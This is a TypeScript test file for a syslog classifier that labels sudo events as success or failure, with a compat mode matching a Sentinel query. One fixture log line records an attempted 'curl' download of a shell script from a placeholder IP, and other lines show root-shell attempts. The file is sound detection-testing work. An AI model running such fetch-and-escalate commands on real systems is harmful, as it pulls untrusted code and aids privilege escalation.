// Issue 13 item 8: sudo's own refusals are failures by default; compat keeps the
// Sentinel KQL behaviour (only PAM's "authentication failure" is one).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { classifyRow } from '../../../src/lib/linux/classify';

const row = (SyslogMessage: string) => ({ Facility: 'authpriv', ProcessName: 'sudo', Computer: 'web-1', SyslogMessage });

const REFUSALS = [
  '     eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/curl curl http://203.0.113.9/x.sh',
  '     eve : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/bash',
  '     eve : 1 incorrect password attempt ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/id',
  '     eve : command not allowed ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/sh',
  '     eve : a password is required ; TTY=unknown ; PWD=/home/eve ; USER=root ; COMMAND=/bin/id',
];

test('default: user NOT in sudoers, incorrect password attempts and other refusals are failures, with the command still extracted', () => {
  for (const message of REFUSALS) {
    const r = classifyRow(row(message));
    assert.equal(r.activity, 'sudo');
    assert.equal(r.SudoResult, 'Failure', message);
    assert.ok(String(r.Command).startsWith('/'), `${message} → ${String(r.Command)}`);
  }
  assert.equal(classifyRow(row('pam_unix(sudo:auth): authentication failure; logname=eve uid=1001 euid=0 tty=/dev/pts/1 ruser=eve rhost=  user=eve')).SudoResult, 'Failure');
});

test('default: a permitted command is a success', () => {
  assert.equal(classifyRow(row('    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id')).SudoResult, 'Success');
});

test('compat keeps the Sentinel query: only "authentication failure" fails, refusals read "Sucess"', () => {
  for (const message of REFUSALS) assert.equal(classifyRow(row(message), { compat: true }).SudoResult, 'Sucess', message);
  assert.equal(classifyRow(row('pam_unix(sudo:auth): authentication failure; logname=eve'), { compat: true }).SudoResult, 'Failure');
});
